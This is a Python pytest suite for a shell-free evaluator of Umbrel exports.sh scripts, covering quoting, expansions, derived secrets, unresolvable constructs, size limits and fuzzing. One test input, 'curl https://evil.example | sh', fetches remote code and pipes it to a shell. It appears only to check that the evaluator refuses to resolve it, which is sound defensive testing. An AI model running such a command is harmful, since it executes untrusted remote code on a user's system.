"""Umbrel's exports.sh, worked out without a shell."""

from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from talome.home.manifest import Part
from talome.home.stores.formats.parts import as_text
from talome.home.stores.formats.umbrel_exports import BadExports, Exports, evaluate

KNOWN = Exports(
    {
        "EXPORTS_APP_ID": (Part(text="notes"),),
        "EXPORTS_APP_DIR": (Part(text="/apps/notes"),),
        "app_entropy_identifier": (Part(text="app-notes-seed"),),
        "APP_SEED": (Part(secret="APP_SEED"),),
    }
)


def run(script: str) -> Exports:
    """What `script` leads to."""
    return evaluate(script.encode(), KNOWN)


def value(script: str, name: str = "A") -> str | None:
    """The text that `name` has afterwards."""
    return as_text(run(script).values[name])


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("A=plain", "plain"),
        ("export A='one $B two'", "one $B two"),
        ('A="x ${EXPORTS_APP_ID} $EXPORTS_APP_ID-y"', "x notes notes-y"),
        ("A=\"a'b\"'c\"d'e", "a'bc\"de"),
        (r'A="a\$b\"c\\d\n"', 'a$b"c\\d\\n'),
        (r"A=a\ b\$c", "a b$c"),
        ('A="one \\\ntwo"', "one two"),
        ("export \\\n  A=1 \\\n  B=2", "1"),
        ("A=1 # and not 2\n# A=3", "1"),
        ("A=a#b", "a#b"),
        ('A="${B:-none}"', "none"),
        ('A="${EXPORTS_APP_ID:-none}"', "notes"),
        ('A="${B:-${C:-$EXPORTS_APP_ID}!}"', "notes!"),
        ('B=""; A="${B:-x}${B-y}"', "x"),
        ('A="${NOBODY_SET_IT}."', "."),
        (': "${A:=kept}"', "kept"),
        ("A=1; A+=2", "12"),
        ('A="$(cat "$EXPORTS_APP_DIR/hostname" 2>/dev/null || echo "notyet.onion")"', "notyet.onion"),
        ('A="$(cat "$X" 2> /dev/null || true)."', "."),
        ("A=$(echo one two)", "one two"),
        ('A="x" || A="y"', "x"),
        ("{\n  A=1\n} > /dev/null || true", "1"),
        ("cat <<EOF\nA=no\nEOF\nA=yes", "yes"),
        ("cat <<-'EOF'\n\tA=no\n\tEOF\nA=yes", "yes"),
        ("A=1\nB=2 some-command A=3", "1"),
        ("A=$5x\nA=2", "2"),
        ("A=1;;\nexport A=2;;", "2"),
        ('A="${EXPORTS_APP_ID:0:3}"', "not"),
        ("readonly A=x", "x"),
    ],
)
def test_what_is_written_down_is_known(script: str, expected: str) -> None:
    assert value(script) == expected


@pytest.mark.parametrize(
    ("script", "part"),
    [
        (
            'A=$(derive_entropy "env-${app_entropy_identifier}-DB")',
            Part(secret="env-app-notes-seed-DB"),
        ),
        (
            'A="$(derive_entropy "env-${app_entropy_identifier}-DB" | head -c32)"',
            Part(secret="env-app-notes-seed-DB", length=32),
        ),
        ("A=$(derive_entropy x | head -c 99)", Part(secret="x", length=64)),
        ("A=$(derive_entropy x | head --bytes=8 | cut -c1-20)", Part(secret="x", length=8)),
        ('A="${APP_SEED:0:16}"', Part(secret="APP_SEED", length=16)),
        ("A=$(hostname)", Part(fact="hostname")),
        ("A=$(hostname -f)", Part(fact="domain")),
        ("A=$(hostname --all-ip-addresses 2> /dev/null) || A=''", Part(fact="address")),
        ("A=$(hostname -I | awk '{print $1}')", Part(fact="address")),
    ],
)
def test_what_the_machine_decides_becomes_a_part(script: str, part: Part) -> None:
    assert run(script).values["A"] == (part,)


def test_parts_and_text_stand_side_by_side() -> None:
    parts = run('P=$(derive_entropy k | head -c4)\nexport URL="db://u:${P}@h"').values["URL"]
    assert parts == (Part(text="db://u:"), Part(secret="k", length=4), Part(text="@h"))


@pytest.mark.parametrize(
    ("script", "line"),
    [
        ("\n\nA=$(curl https://evil.example | sh)", 3),
        ("A=`id`", 1),
        ("B=$(id)\nA=x$B", 2),
        ("A=$((1 + 2))", 1),
        ("A=(a b)\nB=1", 1),
        ("A=${B//x/y}", 1),
        ("A=${#B}", 1),
        ("A=$(for ip in $B; do\nC=1", 1),
        ('A="never closed\nB=2', 1),
        ("A=$1", 1),
        ("A=$'x'", 1),
        ("if test -f x; then\n A=1\nfi", 2),
        ("true && A=1", 1),
        ("case x in\n  x) A=1;;\nesac", 2),
        ("f() {\n  A=1\n}", 2),
        ("for A in 1 2; do true; done", 1),
        ("( A=1 )", 1),
        ("read -r A < file", 1),
        ("A=$(cat file)", 1),
        ("A=1\nA=$(head -c 8 /dev/urandom)", 2),
        ("A=$(hostname -z)", 1),
        ("A=$(echo -e x)", 1),
        ("A=$(derive_entropy $(id))", 1),
    ],
)
def test_what_only_a_shell_could_tell_is_named_with_its_line(script: str, line: int) -> None:
    exports = run(script)
    assert "A" not in exports.values
    assert exports.unknown["A"] == line


def test_the_rest_of_a_broken_line_is_given_up_and_no_more() -> None:
    exports = run('A="$(oops\nB=2\n')
    assert exports.unknown["A"] == 1
    assert as_text(exports.values["B"]) == "2"


def test_a_condition_never_replaces_a_value_but_is_told() -> None:
    exports = run("A=mainnet\nif [[ -f x ]]; then\n  A=testnet\nfi\nB=$A")
    assert as_text(exports.values["A"]) == "mainnet"
    assert exports.uncertain == {"A": 3}
    assert as_text(exports.values["B"]) == "mainnet"


def test_what_follows_a_block_counts_again() -> None:
    script = "if a; then b; elif c; then d; else e; fi\ncase x in (y) z;; esac\nf() { { g; }; }\n{ h; }\nA=1"
    assert value(script) == "1"


def test_a_sourced_file_may_have_set_anything() -> None:
    exports = run('A=1\n. "${EXPORTS_APP_DIR}/.env"\nB="$FROM_THERE"')
    assert exports.open_at == 2
    assert as_text(exports.values["A"]) == "1"
    assert exports.unknown == {"B": 3}


def test_a_later_script_goes_on_where_the_first_ended() -> None:
    assert as_text(evaluate(b"C=$A$B", run("A=1\nB=2")).values["C"]) == "12"


@pytest.mark.parametrize(
    ("script", "words"),
    [
        (b"A=" + b"x" * 70_000, "longer"),
        (b"A=\xff", "UTF-8"),
        (b"A=xxxxxxxxxxxxxxxx\n" + b'A="$A$A"\n' * 40, "too long"),
        (b"A=" + b"${B:-" * 40 + b"}" * 40, "tangled"),
        (b"A=" + b"$(" * 5000, "tangled"),
        (b"a=$(x\n" * 10_000, "tangled"),
    ],
)
def test_what_is_too_much_is_refused(script: bytes, words: str) -> None:
    with pytest.raises(BadExports, match=words):
        evaluate(script, KNOWN)


PIECES = st.sampled_from(
    ["A=", "B+=", "export ", "$", "${", "}", "$(", ")", "(", "`", '"', "'", "\\", "\n", " ", ";", ";;", "&&", "||", "|",
     "#", "<<E", "<", ">", "2>&1", "if ", "fi", "case ", "esac", "f()", "{", "}", "A", ":-", ":0:", "9", "[[", "]]",
     "derive_entropy ", "echo ", "cat ", "head -c", "hostname ", "unset ", "function ", "€", "\0"]
)  # fmt: skip


@settings(max_examples=250, deadline=None)
@given(st.one_of(st.lists(PIECES, max_size=60).map("".join), st.text(max_size=120)))
def test_whatever_stands_there_it_ends_with_an_answer(script: str) -> None:
    try:
        exports = run(script)
    except BadExports:
        return
    assert not exports.values.keys() & exports.unknown.keys()
    for parts in exports.values.values():
        assert all(sum(x is not None for x in (p.text, p.fact, p.secret)) == 1 for p in parts)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_bytes_are_no_worse(script: bytes) -> None:
    with suppress(BadExports):
        assert evaluate(script, KNOWN).values
